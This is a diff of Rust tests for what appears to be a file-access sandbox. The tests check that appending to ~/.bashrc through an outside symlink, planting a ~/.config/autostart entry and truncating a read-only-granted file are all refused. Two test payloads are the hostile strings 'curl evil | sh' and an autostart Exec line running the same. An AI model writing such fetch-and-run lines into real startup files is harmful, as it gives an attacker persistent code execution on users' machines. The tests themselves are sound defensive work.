@@ -1402,6 +1402,61 @@ fn symlinks_a_missing_never_place_to_its_own_directory() {
     assert_eq!(r, vec![0], "the reserved name was the check");
 }
 
+/// Writes `~/.bashrc`, a symlink to the user's dotfiles kept outside the home
+/// (`/srv/dotfiles/bashrc`): no grant needed at all. The never entries hold the link; the
+/// open walks from the target, where no root and no never entry is.
+#[test]
+fn writes_a_startup_file_whose_symlink_target_is_outside_the_home() {
+    let mut c = Cleanup::default();
+    let base = PathBuf::from(format!("/srv/rt-dots-{}", uniq()));
+    c.add(&base);
+    let target = ufile(&format!("{}/bashrc", base.display()), "alias ll='ls -l'\n");
+    let link = PathBuf::from(home(".bashrc"));
+    assert!(
+        std::fs::symlink_metadata(&link).is_err(),
+        "another test left ~/.bashrc"
+    );
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    chown(&link);
+    c.add(&link);
+    let red = Red::start("symrc-out");
+    let r = red.gated(|| vec![append(&link, "curl evil | sh\n")]);
+    assert_eq!(
+        r,
+        vec![EACCES],
+        "appending to ~/.bashrc through its symlink out of the home"
+    );
+    assert!(!std::fs::read_to_string(&target).unwrap().contains("evil"));
+}
+
+/// Plants an autostart entry after the user made `~/.config` during the session (a desktop
+/// app's first start). At session start `~/.config` was missing, so only its own name was
+/// reserved (`seed_literal`: the first missing ancestor); the names below the directory the
+/// user made later are not. Granted: create in `~/.config` ("write my app's config").
+#[test]
+fn plants_an_autostart_entry_under_a_config_directory_made_after_the_session_started() {
+    let mut c = Cleanup::default();
+    let config = PathBuf::from(home(".config"));
+    assert!(
+        !config.exists(),
+        "precondition: no ~/.config in the VM's home"
+    );
+    c.add(&config);
+    let mut red = Red::start("lateconfig");
+    // The user (outside) makes ~/.config during the session.
+    udir(config.to_str().unwrap());
+    red.grant(&config, Scope::Exact, &[Access::List, Access::Create]);
+    let auto = config.join("autostart");
+    let entry = auto.join("evil.desktop");
+    let r = red.gated(|| {
+        vec![
+            mkdir(&auto),
+            create(&entry, "[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n"),
+        ]
+    });
+    assert!(!entry.exists(), "an autostart entry was planted: {r:?}");
+}
+
 /// Renames a tree the session prepared (in a directory it made inside its workspace) into
 /// the missing never place `~/.config/autostart`. Closed by the reserved name of the first
 /// missing ancestor (`seed_literal` reserves (~/.config, "autostart") for create) checked
@@ -2080,6 +2135,32 @@ fn reopens_a_read_granted_file_for_write_through_proc_self_fd() {
     // With a write grant the same reopen works: the write check of `file_open` is the check.
     red.grant(&f, Scope::Exact, &[Access::Write]);
     assert_eq!(red.gated(|| reopen_for_write(&f, "")), vec![0, 0]);
+}
+
+/// Truncates a read-granted file with `open(O_RDONLY | O_TRUNC)` (Linux truncates when the
+/// caller may write by mode; `file_open` sees a read-only open): closed by
+/// `inode_setattr` (the truncation's `notify_change` with ATTR_SIZE needs write).
+#[test]
+fn truncates_a_read_granted_file_with_a_read_only_open() {
+    let mut red = Red::start("otrunc");
+    let f = red.ws.join("src/main.rs");
+    red.grant(&f, Scope::Exact, &[Access::Read]);
+    // write(2) on the read-only fd fails (EBADF) after the open: the open's outcome is
+    // what counts, so only EACCES means refused.
+    let r = red.gated(|| vec![write_with(&f, libc::O_RDONLY | libc::O_TRUNC, b"")]);
+    assert_eq!(r, vec![EACCES], "O_RDONLY|O_TRUNC of a read-granted file");
+    assert!(
+        !std::fs::read_to_string(&f).unwrap().is_empty(),
+        "the file was truncated"
+    );
+    red.grant(&f, Scope::Exact, &[Access::Write]);
+    let r = red.gated(|| vec![write_with(&f, libc::O_RDONLY | libc::O_TRUNC, b"")]);
+    assert_ne!(
+        r,
+        vec![EACCES],
+        "with write granted it truncates: the setattr check is the check"
+    );
+    assert!(std::fs::read_to_string(&f).unwrap().is_empty());
 }
 
 /// Hard-links the user's private key into a directory the session made (its own, where it
